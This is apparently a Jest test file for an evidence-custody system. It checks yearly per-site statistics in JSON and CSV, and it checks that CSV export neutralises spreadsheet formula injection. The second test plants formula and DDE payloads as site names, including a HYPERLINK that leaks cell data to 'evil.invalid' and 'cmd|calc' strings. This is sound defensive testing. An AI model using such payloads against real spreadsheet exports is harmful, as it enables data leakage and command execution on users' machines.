import Papa from 'papaparse';
import { given } from '../support/given';
import { startTestApp, TestApp } from '../support/test-app';

/** The annual-report table: per site and year, seizures, items by category, received, transferred, disposed. */
describe('statistics', () => {
  let custody: TestApp;

  beforeAll(async () => {
    custody = await startTestApp();
  });
  afterAll(() => custody.close());

  it('counts a year of custody per site, as JSON and CSV', async () => {
    const year = new Date().getUTCFullYear();
    await given(custody).seizure({ items: 3, category: 'drugs' });
    const {
      items: [cash, document],
    } = await given(custody).seizure({ items: 2, category: 'cash' });
    const transfer = await given(custody).transfer({ items: [cash.code, document.code], dispatch: true, witness: 'officer2' });
    await (await custody.as('clerk')).post(`/transfers/${transfer.code}/receipts`, { items: [cash.code] }).expect(200);
    const {
      items: [old],
    } = await given(custody).seizure();
    await (
      await custody.as('officer')
    )
      .post(`/items/${old.code}/dispositions`, { kind: 'returned_to_owner', authority: 'Jugement 2026/5', decidedAt: `${year}-01-02T10:00:00Z` })
      .expect(200);

    const statistics = (await (await custody.as('auditor')).get(`/statistics?year=${year}`).expect(200)).body;
    const police = statistics.sites.find((site: { site: string }) => site.site === 'POL-BRU');
    const court = statistics.sites.find((site: { site: string }) => site.site === 'TPI-BRU');
    expect(police).toMatchObject({
      seizures: 3,
      items: 6,
      itemsByCategory: { drugs: 3, cash: 2, document: 1, firearm: 0 },
      transferred: 2,
      received: 0,
      disposed: 1,
    });
    expect(court).toMatchObject({ seizures: 0, items: 0, received: 1, transferred: 0 });
    expect(statistics.total).toMatchObject({ site: 'ALL', seizures: 3, items: 6, received: 1, transferred: 2, disposed: 1 });
    expect(statistics.sites).toHaveLength(4);
    // last year was empty
    expect((await (await custody.as('auditor')).get(`/statistics?year=${year - 1}`).expect(200)).body.total).toMatchObject({ seizures: 0, items: 0 });

    // the clerk sees the court's own line only
    expect((await (await custody.as('clerk')).get(`/statistics?year=${year}`).expect(200)).body.sites.map((site: { site: string }) => site.site)).toEqual([
      'TPI-BRU',
    ]);
    const csv = await (
      await custody.as('auditor')
    )
      .get(`/statistics.csv?year=${year}`)
      .expect(200)
      .expect('content-type', /text\/csv/);
    const lines = csv.text.trim().split('\r\n');
    expect(lines[0]).toBe(
      'year,site,name,seizures,items,items_drugs,items_cash,items_firearm,items_valuables,items_document,items_digital_device,items_vehicle,items_other,received,transferred,disposed',
    );
    expect(lines).toContain(`${year},POL-BRU,"Evidence room, Brussels police zone",3,6,3,2,0,0,1,0,0,0,0,2,1`);
    expect(lines.at(-1)).toMatch(new RegExp(`^${year},ALL,All sites,3,6,`));
    expect((await (await custody.as('auditor')).get('/statistics?year=1850').expect(400)).body.fields).toEqual([
      { field: 'year', problem: expect.stringMatching(/not be less than 2000/) },
    ]);
  });

  it('neutralises every cell a spreadsheet would run as a formula, read back by an independent CSV parser', async () => {
    const admin = await custody.token('admin');
    const names = {
      INCC: '@SUM(1+9)*cmd|calc',
      OCSC: '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click me")',
      'TPI-BRU': "-2+3+cmd|' /C calc'!A0",
    };
    for (const [code, name] of Object.entries(names)) await custody.http().patch(`/sites/${code}`).auth(admin, { type: 'bearer' }).send({ name }).expect(200);
    const csv = (await (await custody.as('auditor')).get('/statistics.csv').expect(200)).text;
    const parsed = Papa.parse<string[]>(csv.trim(), { delimiter: ',', newline: '\r\n' });
    expect(parsed.errors).toEqual([]);
    const nameOf = Object.fromEntries(parsed.data.slice(1).map((row) => [row[1], row[2]]));
    expect(nameOf).toMatchObject({
      INCC: "'@SUM(1+9)*cmd|calc",
      OCSC: `'=HYPERLINK("http://evil.invalid/?leak="&A1,"Click me")`,
      'TPI-BRU': "'-2+3+cmd|' /C calc'!A0",
      'POL-BRU': 'Evidence room, Brussels police zone',
    });
    // numbers stay numbers, and no cell of the file starts a formula
    for (const row of parsed.data.slice(1)) {
      expect(row[0]).toMatch(/^\d{4}$/);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
